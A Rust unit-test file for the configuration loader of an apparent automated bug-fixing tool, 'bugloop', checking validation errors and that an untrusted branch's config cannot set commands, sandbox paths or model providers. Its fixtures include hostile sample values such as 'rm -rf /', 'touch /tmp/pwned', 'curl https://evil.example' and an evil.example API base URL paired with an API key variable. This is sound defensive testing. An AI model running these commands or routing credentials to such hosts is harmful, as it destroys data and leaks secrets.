//! Unit tests of configuration loading and validation.

use super::*;

mod analyzers;
mod bad_input;
mod looser;
mod operators;
mod schema;

fn parse(text: &str) -> Result<Config, ConfigError> {
    from_yaml(text, Path::new(".bugloop/config.yml"))
}

/// Loads `text` as the repository's file (at the base and on the branch) and returns the error.
fn err(text: &str) -> String {
    let label = format!("<repo>/{CONFIG_PATH}");
    load_layered(&Sources {
        base: Some(SourceText::new(&label, text)),
        branch: Some(SourceText::new(&label, text)),
        ..Sources::default()
    })
    .unwrap_err()
    .to_string()
}

/// Each `(text, says)`: loading `text` fails with an error that contains `says`.
fn assert_each_refused(cases: &[(&str, &str)]) {
    for (text, says) in cases {
        let error = err(text);
        assert!(error.contains(says), "{text}: {error}");
    }
}

/// Each of `texts` and the error `error` gives for it, a paragraph each.
fn errors(texts: &[&str], error: impl Fn(&str) -> String) -> String {
    texts
        .iter()
        .map(|text| format!("{text}  => {}\n", error(text)))
        .collect()
}

/// Each variable set alone over the defaults, and the error it gets, added to `report`.
fn env_errors(report: &mut String, variables: &[(&str, &str)]) {
    for (var, value) in variables {
        let error = apply_env(
            Config::default(),
            vec![((*var).to_owned(), (*value).to_owned())],
        )
        .unwrap_err();
        report.push_str(&format!("{var}={value}\n  => {error}\n"));
    }
}

#[test]
fn defaults_follow_the_spec() {
    let config = Config::default();
    assert_eq!(config.review.threshold.get(), 5);
    assert_eq!(config.review.elevation_threshold, 5);
    assert_eq!(config.review.comment_limit, 20);
    assert_eq!(config.review.severity_floor, bugloop_domain::Severity::Low);
    assert_eq!(config.labels.trigger, "bug:autofix");
    assert_eq!(config.labels.in_progress, "bugloop:solving");
    assert_eq!(config.labels.needs_human, "bugloop:escalated");
    assert_eq!(config.solve.max_iterations, 10);
    assert_eq!(config.solve.max_review_iterations, 5);
    assert_eq!(config.solve.timeout_minutes, 30);
    assert_eq!(config.solve.max_diff_lines, 500);
    assert_eq!(config.branch_prefix, "bugloop/");
    assert_eq!(config.converge.max_loops, 10);
    assert_eq!(config.gate.max_fix_rounds, 5);
    validate(&config).unwrap();
    assert_eq!(parse("").unwrap(), config);
    assert_eq!(parse("# only a comment\n").unwrap(), config);
}

#[test]
fn errors_are_located_and_named() {
    let cases = [
        "review:\n  threshhold: 7\n",
        "reveiw:\n  threshold: 7\n",
        "review:\n  threshold: 11\n",
        "review:\n  threshold: high\n",
        "review:\n  severity_floor: hgih\n",
        "review: [1, 2]\n",
        "review:\n  threshold: 5\n   bad indent: x\n",
        "review:\n  comment_limit: -1\n",
        "budgets:\n  max_cost_usd: .nan\n",
        "labels:\n  trigger: [a]\n",
        "fix:\n  verify_commands: [\"cargo test && rm -rf /\"]\n",
        "fix:\n  verify_commands:\n    - cargo test\n    - sh -c 'make lint'\n",
        "gate:\n  commands:\n  - cargo fmt --check\n  - env CI=1 bash scripts/lint\n",
        "solve:\n  test_commands:\n    - {shell: ''}\n",
        "fix:\n  verify_commands:\n    - {shel: make}\n",
        "review:\n  ignore_files: [\"a[b\"]\n",
        "review:\n  ignore_files:\n    - \"*.lock\"\n    - docs/\n    - \"src/{a,b\"\n",
        "protected_paths:\n  - .git/**\n  - \"!\"\n",
        "solve:\n  timeout_minutes: 0\n",
        "limits:\n  max_ralph_iterations: 3\n  timeout_minutes: 0\n",
        "budgets:\n  max_turns: 0\n",
        "review:\n  max_tokens_per_call: 18446744073709551615\n",
        "sandbox:\n  tmp_size_mb: 99999999999999\n",
        "model:\n  local_dir: models\n",
        "model:\n  default: local:models/reviewer.gguf\n",
        "model:\n  default: replay:cassettes/review.jsonl\n",
        "model:\n  default: ' Script: answers.jsonl '\n",
        "converge:\n  parallel_auditors: 1\n  auditors:\n    - focus: security\n      model: local:reviewer.gguf\n",
        "sandbox:\n  command_timeout_seconds: 0\n",
        "identity:\n  marker_prefix: \"a b\"\n",
        "model:\n  default: gpt-4o\n",
        "model:\n  prices:\n    openai:x: {input_per_mtok: 1}\n",
        "sandbox:\n  when_unconfined: maybe\n",
        "converge:\n  parallel_auditors: 1\n  auditors:\n    - focus: security\n    - focus: correctness\n",
        "converge:\n  parallel_auditors: 2\n  auditors:\n    - focus: securty\n",
        "converge:\n  parallel_auditors: 2\n  auditors:\n    - focus: security\n    - {focus: correctness, temperature: 3}\n",
        "converge:\n  parallel_auditors: 2\n  auditors:\n    - {focus: security, model: gpt-4o}\n",
        "converge:\n  validator: human\n",
        "budgets: []\n",
        "sandbox:\n  max_processes: -3\n",
        "review:\n  ignore_files: \"*.md\"\n",
        "review:\n  elevation_min_score: 2.5\n",
        "model: 5\n",
        "review:\n  analyzers: 7\n",
        "review:\n  analyzers: [1]\n",
        "review:\n  comment_limit: 99999999999999999999999\n",
        "review:\n  threshold: ~\n",
        "review:\n  threshold: 3\nreview:\n  threshold: 4\n",
        "review:\n  ignore_files: {a: 1}\n",
        "review:\n  prove:\n    min_score: 200\n",
        "model:\n  default: nonsense:thing\n",
        "model:\n  prices:\n    openai:x: {input_per_mtok: 1, output_per_mtok: 2}\n    openai:x: {input_per_mtok: 3, output_per_mtok: 4}\n",
        "labels:\n  trigger: !!int x\n",
    ];
    let mut report = String::new();
    for case in cases {
        report.push_str(&format!("{case:?}\n  => {}\n", err(case)));
    }
    insta::assert_snapshot!(report);
}

#[test]
fn env_errors_name_the_variable() {
    // The file sets valid values; each variable breaks one, and the error must blame it.
    let file = "review:\n  comment_limit: 5\n  ignore_files: [\"*.md\"]\nsolve:\n  timeout_minutes: 30\nsandbox:\n  max_processes: 100\n";
    let mut report = String::new();
    for (var, value) in [
        ("BUGLOOP_SOLVE__TIMEOUT_MINUTES", "0"),
        ("BUGLOOP_REVIEW__COMMENT_LIMIT", "0"),
        ("BUGLOOP_SANDBOX__MAX_PROCESSES", "1"),
        ("BUGLOOP_REVIEW__IGNORE_FILES", "[ok, \"a[b\"]"),
        ("BUGLOOP_REVIEW__THRESHOLD", "11"),
        ("BUGLOOP_REVIEW", "{comment_limit: 0}"),
        ("BUGLOOP_BUDGETS__MAX_COST_USD", "-1"),
    ] {
        let label = format!("<repo>/{CONFIG_PATH}");
        let error = load_layered(&Sources {
            base: Some(SourceText::new(&label, file)),
            branch: Some(SourceText::new(&label, file)),
            env: vec![(var.to_owned(), value.to_owned())],
            ..Sources::default()
        })
        .unwrap_err()
        .to_string();
        report.push_str(&format!("{var}={value}\n  => {error}\n"));
    }
    insta::assert_snapshot!(report);
}

#[test]
fn the_specs_own_config_files_load() {
    // bugloop-architecture.md's example, verbatim.
    let spec = "labels:\n  trigger: \"bug:autofix\"\n  in-progress: \"bugloop:solving\"\n  needs-human: \"bugloop:escalated\"\n\nlimits:\n  max_ralph_iterations: 10\n  max_review_iterations: 5\n  timeout_minutes: 30\n  max_diff_lines: 500\n\nbranch_prefix: \"bugloop/\"\n\nagents:\n  bugsolver:\n    assignee: \"bugsolver-bot\"\n  reviewer:\n    # CodeRabbit handles this automatically\n    external: true\n";
    let config = parse(spec).unwrap();
    validate(&config).unwrap();
    assert_eq!(config.solve.max_iterations, 10);
    assert_eq!(
        config.agents.bugsolver.assignee.as_deref(),
        Some("bugsolver-bot")
    );
    assert!(config.agents.reviewer.external);
    // The reviewer's and bugbot's setting names.
    let config = parse(
        "review:\n  problem_score_threshold: 6\n  score_elevation_threshold: 5\n  bugbot-severity: medium\n  bugbot-comment-limit: 10\n  ai-ignore-files: [\"*.md\"]\n  enable_web: true\n  web:\n    allow: [docs.rs]\nfix:\n  bugbot-fix-verify-commands: [npm test]\n",
    )
    .unwrap();
    assert_eq!(config.review.threshold.get(), 6);
    assert_eq!(
        config.review.severity_floor,
        bugloop_domain::Severity::Medium
    );
    assert_eq!(config.review.comment_limit, 10);
    assert_eq!(
        config.fix.verify_commands,
        CommandList::from(vec!["npm test"])
    );
    assert!(config.review.enable_web);
    validate(&config).unwrap();
}

#[test]
fn keys_that_configure_nothing_are_refused_with_what_to_do() {
    let mut report = errors(
        &[
            "review:\n  trigger_mention: \"@bot\"\n",
            "review:\n  threshold: 6\n  review_drafts: true\n",
            "identity:\n  bot_logins: [me]\n",
        ],
        |text| parse(text).unwrap_err().to_string(),
    );
    env_errors(
        &mut report,
        &[
            ("BUGLOOP_REVIEW__REVIEW_DRAFTS", "true"),
            ("BUGLOOP_IDENTITY__BOT_LOGINS", "[me]"),
        ],
    );
    insta::assert_snapshot!(report);
}

#[test]
fn web_access_names_what_is_wrong() {
    let report = errors(
        &[
            "review:\n  enable_web: true\n",
            "review:\n  enable_web: true\n  web:\n    allow: [docs.rs, \"https://example.com/x\"]\n",
            "review:\n  web:\n    allow_private: [\"intranet:8080\"]\n",
            "review:\n  web:\n    search_url: \"https://searx.example/search?q=\"\n",
            "review:\n  web:\n    max_kib: 0\n",
            "review:\n  web:\n    timeout_seconds: 600\n",
        ],
        |text| validate(&parse(text).unwrap()).unwrap_err().to_string(),
    );
    insta::assert_snapshot!(report);
    let fine = parse(
        "review:\n  enable_web: true\n  web:\n    allow: [docs.rs, \"*.python.org\", 10.0.0.7]\n    allow_private: [10.0.0.7]\n    search_url: \"http://10.0.0.7/search?format=json&q={query}\"\n",
    )
    .unwrap();
    validate(&fine).unwrap();
}

#[test]
fn spec_label_spelling_is_accepted() {
    let config = parse("labels:\n  in-progress: working\n  needs-human: help\n").unwrap();
    assert_eq!(config.labels.in_progress, "working");
    assert_eq!(config.labels.needs_human, "help");
}

#[test]
fn env_overrides() {
    let env = vec![
        ("BUGLOOP_REVIEW__THRESHOLD".to_owned(), "8".to_owned()),
        (
            "BUGLOOP_FIX__VERIFY_COMMANDS".to_owned(),
            "[cargo test]".to_owned(),
        ),
        (
            "BUGLOOP_MODEL__PROVIDERS__GROQ__BASE_URL".to_owned(),
            "https://api.groq.com/openai/v1".to_owned(),
        ),
        ("BUGLOOP_CONFIG".to_owned(), "ignored".to_owned()),
        ("OTHER".to_owned(), "x".to_owned()),
    ];
    let (config, applied) = apply_env(Config::default(), env).unwrap();
    assert_eq!(config.review.threshold.get(), 8);
    assert_eq!(
        config.fix.verify_commands,
        CommandList::from(vec!["cargo test"])
    );
    assert_eq!(
        config.model.providers["groq"].base_url.as_deref(),
        Some("https://api.groq.com/openai/v1")
    );
    assert_eq!(applied.len(), 3);

    let mut report = String::new();
    env_errors(
        &mut report,
        &[
            ("BUGLOOP_REVIEW__THRESOLD", "8"),
            ("BUGLOOP_REVIEW__THRESHOLD", "eleven"),
            ("BUGLOOP_REVIEW__THRESHOLD__X", "1"),
            ("BUGLOOP_NOPE", "1"),
        ],
    );
    insta::assert_snapshot!(report);
}

#[test]
fn load_reads_the_user_and_branch_files() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join(".bugloop")).unwrap();
    std::fs::write(
        dir.path().join(CONFIG_PATH),
        "review:\n  comment_limit: 30\n",
    )
    .unwrap();
    let xdg = dir.path().join("xdg");
    std::fs::create_dir_all(xdg.join("bugloop")).unwrap();
    std::fs::write(
        xdg.join("bugloop/config.yml"),
        "fix:\n  verify_commands: [make check]\n",
    )
    .unwrap();
    let env = vec![("XDG_CONFIG_HOME".to_owned(), xdg.display().to_string())];
    let files = LocalFiles {
        repo_root: dir.path().to_path_buf(),
        ..LocalFiles::default()
    };
    let loaded = load(&files, env.clone()).unwrap();
    assert_eq!(loaded.config.review.comment_limit, 30);
    assert_eq!(
        loaded.config.fix.verify_commands,
        CommandList::from(vec!["make check"])
    );
    assert_eq!(
        loaded.user.as_deref(),
        Some(
            xdg.join("bugloop/config.yml")
                .display()
                .to_string()
                .as_str()
        )
    );
    assert!(loaded.ignored.is_empty());
    // HOME's .config when XDG_CONFIG_HOME is not set.
    assert_eq!(
        default_user_file(&[("HOME".to_owned(), "/home/u".to_owned())]),
        Some(PathBuf::from("/home/u/.config/bugloop/config.yml"))
    );
    // An explicit file must exist.
    let missing = LocalFiles {
        user_file: Some(dir.path().join("nope.yml")),
        ..files.clone()
    };
    assert!(
        load(&missing, env.clone())
            .unwrap_err()
            .to_string()
            .contains("nope.yml")
    );
    // The branch's file is read only when it is a regular file.
    let elsewhere = dir.path().join("elsewhere.yml");
    std::fs::write(&elsewhere, "model:\n  default: openai:secret\n").unwrap();
    std::fs::remove_file(dir.path().join(CONFIG_PATH)).unwrap();
    std::os::unix::fs::symlink(&elsewhere, dir.path().join(CONFIG_PATH)).unwrap();
    // Not read, and said why; the run reads the trusted configuration alone.
    let loaded = load(&files, env.clone()).unwrap();
    let error = loaded.branch_unreadable.unwrap_or_default();
    assert!(
        error.ends_with(
            "config.yml:1:1: is a symbolic link; bugloop reads only a regular file there"
        ),
        "{error}"
    );
    assert_ne!(loaded.config.model.default, "openai:secret");
    let ignoring = LocalFiles {
        branch_config: BranchConfig::Ignore,
        branch_file: BranchFile::WorkingTree,
        ..files.clone()
    };
    assert!(load(&ignoring, env.clone()).unwrap().ignored.is_empty());
    std::fs::remove_file(dir.path().join(CONFIG_PATH)).unwrap();
    // Nor through a `.bugloop` that is a link to a directory of the host: even when the branch's
    // file is only listed (ignored), nothing of the host's file is read.
    let host = dir.path().join("host-dir");
    std::fs::create_dir_all(&host).unwrap();
    std::fs::write(
        host.join("config.yml"),
        "model:\n  providers:\n    host_secret_key:\n      base_url: http://x\n",
    )
    .unwrap();
    let branch_dir = dir.path().join(".bugloop");
    let kept = dir.path().join("bugloop-dir");
    std::fs::rename(&branch_dir, &kept).unwrap();
    std::os::unix::fs::symlink(&host, &branch_dir).unwrap();
    let loaded = load(&files, env.clone()).unwrap();
    let error = loaded.branch_unreadable.unwrap_or_default();
    assert!(
        error.ends_with(
            "config.yml:1:1: .bugloop is a symbolic link; bugloop reads only a regular file there"
        ),
        "{error}"
    );
    assert!(
        !loaded
            .config
            .model
            .providers
            .contains_key("host_secret_key")
    );
    let loaded = load(&ignoring, env.clone()).unwrap();
    assert!(
        !format!("{:?}", loaded.ignored).contains("host_secret_key"),
        "{:?}",
        loaded.ignored
    );
    std::fs::remove_file(&branch_dir).unwrap();
    std::fs::rename(&kept, &branch_dir).unwrap();
    // The base's bytes are given by the caller; not UTF-8 is an error with its place.
    let broken = LocalFiles {
        base: Some((
            "main@1a2b3c4:.bugloop/config.yml".to_owned(),
            b"a: 1\nb: \xff\n".to_vec(),
        )),
        ..files
    };
    assert_eq!(
        load(&broken, env).unwrap_err().to_string(),
        "main@1a2b3c4:.bugloop/config.yml:2:4: is not UTF-8 text (byte 0xff at offset 8)"
    );
}

const BASE: &str = "\
review:
  threshold: 6
fix:
  verify_commands: [cargo test]
sandbox:
  env_allowlist: [CARGO_HOME]
";

const BRANCH: &str = "\
review:
  threshold: 3
  comment_limit: 40
fix:
  verify_commands: [touch /tmp/pwned]
gate:
  commands:
    - curl https://evil.example
sandbox:
  env_allowlist: [CARGO_HOME, AWS_REGION]
  home_dirs: [.ssh]
model:
  providers:
    x:
      base_url: https://evil.example/v1
      api_key_env: OPENAI_API_KEY
budgets:
  max_cost_usd: 500
";

/// The keys [`BRANCH`] sets that its review settings may not: ignored when it is trusted with
/// review settings only.
const BRANCH_ONLY_KEYS: [&str; 7] = [
    "fix.verify_commands",
    "gate.commands",
    "sandbox.env_allowlist",
    "sandbox.home_dirs",
    "model.providers.x.base_url",
    "model.providers.x.api_key_env",
    "budgets.max_cost_usd",
];

const BASE_LABEL: &str = "main@1a2b3c4:.bugloop/config.yml";
const BRANCH_LABEL: &str = "<repo>/.bugloop/config.yml";

/// A user configuration file holding `text`.
fn user_file(text: &str) -> Option<SourceText> {
    Some(SourceText::new("/home/u/.config/bugloop/config.yml", text))
}

fn sources(branch_config: BranchConfig) -> Sources {
    Sources {
        base: Some(SourceText::new(BASE_LABEL, BASE)),
        branch: Some(SourceText::new(BRANCH_LABEL, BRANCH)),
        user: None,
        operator: None,
        env: Vec::new(),
        branch_config,
        base_scope: BaseScope::Full,
    }
}

/// [`sources`] with `branch` as the branch's own configuration.
fn with_branch(branch: &str, branch_config: BranchConfig) -> Sources {
    Sources {
        branch: Some(SourceText::new(BRANCH_LABEL, branch)),
        ..sources(branch_config)
    }
}

/// The ignored settings, then chosen keys with their values and sources.
fn summary(loaded: &Loaded) -> String {
    let mut out = String::from("ignored:\n");
    for i in &loaded.ignored {
        out.push_str(&format!(
            "  {} (line {:?}: {:?}): branch {} -> trusted {}\n",
            i.key, i.line, i.line_text, i.branch_value, i.trusted_value
        ));
    }
    let tree = serde_yaml_ng::to_value(&loaded.config).unwrap();
    out.push_str("effective:\n");
    for key in ["review.threshold", "review.comment_limit"]
        .into_iter()
        .chain(BRANCH_ONLY_KEYS)
    {
        let path: Vec<&str> = key.split('.').collect();
        let value = path
            .iter()
            .try_fold(&tree, |node, k| node.get(*k))
            .map_or("(none)".to_owned(), |v| one_line(Some(v)));
        let source = loaded
            .source_of(&path)
            .map_or("(none)".to_owned(), ToString::to_string);
        out.push_str(&format!("  {key} = {value}  # {source}\n"));
    }
    out
}

#[test]
fn the_branch_chooses_review_settings_only() {
    let mut report = String::new();
    let cases: Vec<(&str, Sources)> = vec![
        (
            "review settings (local default)",
            sources(BranchConfig::ReviewSettings),
        ),
        (
            "trust (--trust-branch-config)",
            sources(BranchConfig::Trust),
        ),
        ("ignore (GitHub)", sources(BranchConfig::Ignore)),
        (
            "the branch's file is the base's",
            with_branch(BASE, BranchConfig::ReviewSettings),
        ),
        (
            "no base: no default branch, or no file there",
            Sources {
                base: None,
                ..sources(BranchConfig::ReviewSettings)
            },
        ),
        (
            "the branch removes the file",
            Sources {
                branch: None,
                ..sources(BranchConfig::ReviewSettings)
            },
        ),
        (
            "the user's file overrides the base",
            Sources {
                user: user_file(
                    "review:\n  comment_limit: 9\nfix:\n  verify_commands: [make check]\nbudgets:\n  max_cost_usd: 1\n",
                ),
                ..sources(BranchConfig::ReviewSettings)
            },
        ),
        (
            "the environment overrides both",
            Sources {
                user: user_file("fix:\n  verify_commands: [make check]\n"),
                env: vec![
                    (
                        "BUGLOOP_FIX__VERIFY_COMMANDS".to_owned(),
                        "[make ci]".to_owned(),
                    ),
                    ("BUGLOOP_REVIEW__THRESHOLD".to_owned(), "8".to_owned()),
                    (
                        "BUGLOOP_SANDBOX".to_owned(),
                        "{env_allowlist: []}".to_owned(),
                    ),
                ],
                ..sources(BranchConfig::ReviewSettings)
            },
        ),
    ];
    for (name, sources) in cases {
        let loaded = load_layered(&sources).unwrap();
        report.push_str(&format!("## {name}\n{}\n", summary(&loaded)));
    }
    insta::assert_snapshot!(report);
}

#[test]
fn ignored_settings_keep_the_base_values() {
    let base = load_layered(&Sources {
        base: Some(SourceText::new(BASE_LABEL, BASE)),
        branch_config: BranchConfig::Ignore,
        ..Sources::default()
    })
    .unwrap()
    .config;
    let loaded = load_layered(&sources(BranchConfig::ReviewSettings)).unwrap();
    let mut expected = base.clone();
    expected.review.threshold = bugloop_domain::Score::new(3).unwrap();
    expected.review.comment_limit = 40;
    assert_eq!(loaded.config, expected);
    let keys: Vec<&str> = loaded.ignored.iter().map(|i| i.key.as_str()).collect();
    assert_eq!(keys, BRANCH_ONLY_KEYS);
    assert!(loaded.ignored.iter().all(|i| i.line.is_some()));
    let trusted = load_layered(&sources(BranchConfig::Trust)).unwrap();
    assert!(trusted.ignored.is_empty());
    assert_eq!(
        trusted.config.fix.verify_commands,
        CommandList::from(vec!["touch /tmp/pwned"])
    );
    let ignore = load_layered(&sources(BranchConfig::Ignore)).unwrap();
    assert_eq!(ignore.config, base);
    assert_eq!(ignore.ignored, loaded.ignored);
    // A broken branch file cannot stop a run that ignores it.
    let broken = with_branch("review: [", BranchConfig::Ignore);
    assert_eq!(load_layered(&broken).unwrap().config, base);
    // The branch's ignored values are not validated: they do not run.
    let shell = with_branch(
        "fix:\n  verify_commands: [sh -c 'x; y']\n",
        BranchConfig::ReviewSettings,
    );
    let ignored = load_layered(&shell).unwrap().ignored;
    assert_eq!(ignored[0].key, "fix.verify_commands");
    assert_eq!(ignored[0].branch_value, r#"["sh -c 'x; y'"]"#);
    // Aliases count as the key they stand for.
    let alias = with_branch(
        "fix:\n  bugbot-fix-verify-commands: [make]\nlimits:\n  max_ralph_iterations: 99\n",
        BranchConfig::ReviewSettings,
    );
    let ignored = load_layered(&alias).unwrap().ignored;
    let lines: Vec<(String, Option<usize>)> =
        ignored.iter().map(|i| (i.key.clone(), i.line)).collect();
    assert!(
        lines.contains(&("fix.verify_commands".to_owned(), Some(2))),
        "{lines:?}"
    );
    assert!(
        lines.contains(&("solve.max_iterations".to_owned(), Some(4))),
        "{lines:?}"
    );
}

#[test]
fn every_key_is_classified() {
    // Only review settings may come from a branch; everything else is trusted-only.
    let defaults = serde_yaml_ng::to_value(Config::default()).unwrap();
    let mut settable = Vec::new();
    let mut trusted = Vec::new();
    for (section, value) in defaults.as_mapping().unwrap() {
        let section = section.as_str().unwrap().to_owned();
        let keys: Vec<KeyPath> = match value.as_mapping() {
            Some(map) => map
                .keys()
                .map(|k| KeyPath(vec![section.clone(), k.as_str().unwrap().to_owned()]))
                .collect(),
            None => vec![KeyPath(vec![section.clone()])],
        };
        for key in keys {
            if is_trusted_only(&key) {
                trusted.push(key.to_string());
            } else {
                settable.push(key.to_string());
            }
        }
    }
    assert_eq!(settable, BRANCH_SETTABLE);
    assert!(trusted.contains(&"review.enable_web".to_owned()));
    assert!(is_trusted_only(&KeyPath(vec![
        "review".into(),
        "threshold_x".into()
    ])));
}

#[test]
fn every_alias_is_known() {
    let source = include_str!("model.rs");
    for part in source.split("alias = \"").skip(1) {
        let alias = part.split('"').next().unwrap();
        assert!(
            ALIASES.iter().any(|(a, _)| *a == alias),
            "{alias} is missing from ALIASES"
        );
    }
}

#[test]
fn show_names_each_values_source() {
    let loaded = load_layered(&Sources {
        user: user_file("gate:\n  commands:\n    - cargo fmt --check\n    - shell: |\n        make lint && make test\n        echo done\n"),
        env: vec![("BUGLOOP_LABELS__TRIGGER".to_owned(), "fix-me".to_owned())],
        ..sources(BranchConfig::ReviewSettings)
    })
    .unwrap();
    let yaml = to_yaml_with_sources(&loaded);
    // It loads back as the same configuration.
    assert_eq!(parse(&yaml).unwrap(), loaded.config);
    insta::assert_snapshot!(yaml);
    let json = serde_json::to_value(to_json_with_sources(&loaded)).unwrap();
    assert_eq!(json["sources"]["fix.verify_commands"], BASE_LABEL);
    assert_eq!(json["sources"]["labels.trigger"], "BUGLOOP_LABELS__TRIGGER");
    assert_eq!(
        json["sources"]["review.threshold"],
        "<repo>/.bugloop/config.yml (this branch)"
    );
    assert_eq!(
        json["config"]["gate"]["commands"][1]["shell"],
        "make lint && make test\necho done\n"
    );
}

#[test]
fn ignored_settings_become_one_finding() {
    let loaded = load_layered(&sources(BranchConfig::ReviewSettings)).unwrap();
    let finding = ignored_settings_finding(&loaded.ignored).unwrap();
    assert_eq!(finding.line, Some(5));
    assert_eq!(
        finding.evidence.as_deref(),
        Some("  verify_commands: [touch /tmp/pwned]")
    );
    insta::assert_json_snapshot!(finding);
    assert!(ignored_settings_finding(&[]).is_none());
}

/// The configuration reference's example of every section is a configuration bugloop accepts.
#[test]
fn the_reference_example_is_valid() {
    let reference = include_str!("../../../docs/configuration.md");
    let section = &reference[reference.find("## Every section, with an example").unwrap()..];
    let start = section.find("```yaml\n").unwrap() + "```yaml\n".len();
    let example = &section[start..start + section[start..].find("```").unwrap()];
    let config = parse(example).unwrap_or_else(|e| panic!("{e}\n{example}"));
    assert_eq!(config.solve.max_review_iterations, 5);
    assert_eq!(config.labels.needs_human, "bugloop:escalated");
}

#[test]
fn labels_github_would_refuse_are_refused_with_their_key() {
    assert_each_refused(&[
        (
            "labels:\n  revert: \"\"\n",
            "config.yml:2:3: `labels.revert`: the label \"\" is empty",
        ),
        (
            "labels:\n  trigger: \"bug,autofix\"\n",
            "`labels.trigger`: the label \"bug,autofix\" has a comma",
        ),
        (
            &format!("labels:\n  needs_human: {}\n", "x".repeat(51)),
            "is longer than 50 characters",
        ),
        (
            "labels:\n  in_progress: \"a\\tb\"\n",
            "`labels.in_progress`: the label \"a\\tb\" has a control character",
        ),
        (
            "labels:\n  in_progress: bugloop:approved\n",
            "`labels.approve`: the label \"bugloop:approved\" is also labels.in_progress",
        ),
    ]);
    assert!(parse("labels:\n  revert: \"needs revert\"\n").is_ok());
}

/// The size of a model call is the maintainer's: a branch raised it past what their model
/// takes (one call of the whole change), or lowered it to 1 (169 parts, the review out of
/// turns). Ignored either way, and said.
#[test]
fn a_branch_cannot_size_the_model_calls() {
    for size in ["10000000", "1"] {
        let branch = format!("review:\n  max_tokens_per_call: {size}\n");
        let loaded = load_layered(&with_branch(&branch, BranchConfig::ReviewSettings)).unwrap();
        assert_eq!(loaded.config.review.max_tokens_per_call, 24_000);
        let keys: Vec<(&str, Option<usize>)> = loaded
            .ignored
            .iter()
            .map(|i| (i.key.as_str(), i.line))
            .collect();
        assert!(
            keys.contains(&("review.max_tokens_per_call", Some(2))),
            "{keys:?}"
        );
    }
}
